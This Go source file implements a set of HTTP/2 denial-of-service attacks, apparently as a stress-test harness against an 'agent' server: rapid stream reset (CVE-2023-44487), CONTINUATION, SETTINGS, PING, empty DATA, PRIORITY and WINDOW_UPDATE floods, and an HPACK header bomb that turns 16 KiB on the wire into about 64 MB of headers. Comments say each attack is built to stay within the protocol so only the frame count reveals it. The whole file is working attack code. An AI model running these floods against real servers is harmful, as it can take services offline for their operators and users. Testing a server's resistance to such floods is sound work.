package main

import (
	"bytes"
	"errors"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// This file is attacks that send frames, many and fast. Each keeps to the
// letter of HTTP/2, so that nothing but the count gives it away.

// rapidReset opens streams and takes them back (CVE-2023-44487).
type rapidReset struct{}

func (rapidReset) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	return p.repeat(func() error {
		stream, err := p.call(echoPath)
		return errors.Join(err, p.framer.WriteRSTStream(stream, http2.ErrCodeCancel))
	})
}

// continuationFlood never ends a header block (CVE-2024-24549 and others).
type continuationFlood struct {
	size int // of each CONTINUATION
}

func (a continuationFlood) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	err := p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.request(echoPath)})
	if err != nil {
		return err
	}
	part := bytes.Repeat([]byte{0x82}, a.size) // ":method: GET", again and again
	return p.repeat(func() error { return p.framer.WriteContinuation(1, false, part) })
}

// settingsFlood makes the agent acknowledge (CVE-2019-9515).
type settingsFlood struct{}

func (settingsFlood) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	size := uint32(0)
	return p.repeat(func() error {
		size = size%1000 + 1
		return p.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + size})
	})
}

// settingsChurn moves the windows of many open streams with each frame (RFC
// 9113, 6.9.2): work that grows with what the attacker opened before.
type settingsChurn struct {
	streams int
}

func (a settingsChurn) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	for range a.streams {
		if _, err := p.call(echoPath); err != nil {
			return err
		}
		p.frames++
	}
	size := uint32(0)
	return p.repeat(func() error {
		size = size%1000 + 1
		return p.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + size})
	})
}

// pingFlood makes the agent answer (CVE-2019-9512).
type pingFlood struct{}

func (pingFlood) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	return p.repeat(func() error { return p.framer.WritePing(false, [8]byte{'n', 'o', 'w', '?'}) })
}

// emptyDataFlood sends DATA that carries nothing (CVE-2019-9518).
type emptyDataFlood struct {
	padding int
}

func (a emptyDataFlood) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	stream, err := p.call(echoPath)
	if err != nil {
		return err
	}
	if a.padding == 0 {
		return p.repeat(func() error { return p.framer.WriteData(stream, false, nil) })
	}
	padding := make([]byte, a.padding)
	return p.repeat(func() error { return p.framer.WriteDataPadded(stream, false, nil, padding) })
}

// priorityFlood moves streams about in the tree of RFC 7540 (CVE-2019-9513).
type priorityFlood struct{}

func (priorityFlood) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	n := uint32(0)
	return p.repeat(func() error {
		n++
		return p.framer.WritePriority(2*(n%100)+1, http2.PriorityParam{StreamDep: 2*(n%100) + 3, Weight: uint8(n)})
	})
}

// windowUpdateFlood grants credit in the smallest coin, on the connection or
// on a stream.
type windowUpdateFlood struct {
	onStream bool
	closed   bool // the stream is reset first
}

func (a windowUpdateFlood) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	stream := uint32(0)
	if a.onStream {
		var err error
		if stream, err = p.call(echoPath); err != nil {
			return err
		}
	}
	if a.closed {
		if err := p.framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return p.repeat(func() error { return p.framer.WriteWindowUpdate(stream, 1) })
}

// headerBomb puts one large field into the HPACK table and then refers to it,
// at a byte each: 16 KiB on the wire are a list of 64 MB.
type headerBomb struct{}

// newestEntry refers to the field that entered the table last (RFC 7541, 6.1).
const newestEntry = 0x80 | 62

func (headerBomb) strike(p *peer) error {
	if err := p.hello(); err != nil {
		return err
	}
	p.watch()
	large := hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte{'a'}, 4000))}
	// The entry is newer than the call's own fields and pushes them out; the
	// blocks after it spell theirs out, so that it stays the newest.
	err := p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: p.next, BlockFragment: p.request(echoPath, large), EndHeaders: true, EndStream: true})
	if err != nil {
		return err
	}
	p.next += 2
	var plain bytes.Buffer
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: echoPath}, {Name: ":authority", Value: authority},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	} {
		plain.Write(literal(f))
	}
	bomb := append(plain.Bytes(), bytes.Repeat([]byte{newestEntry}, 16_000)...)
	return p.repeat(func() error {
		stream := p.next
		p.next += 2
		return p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: bomb, EndHeaders: true, EndStream: true})
	})
}

// literal encodes a short field that leaves the table alone (RFC 7541, 6.2.2).
func literal(f hpack.HeaderField) []byte {
	b := append([]byte{0, byte(len(f.Name))}, f.Name...)
	return append(append(b, byte(len(f.Value))), f.Value...)
}
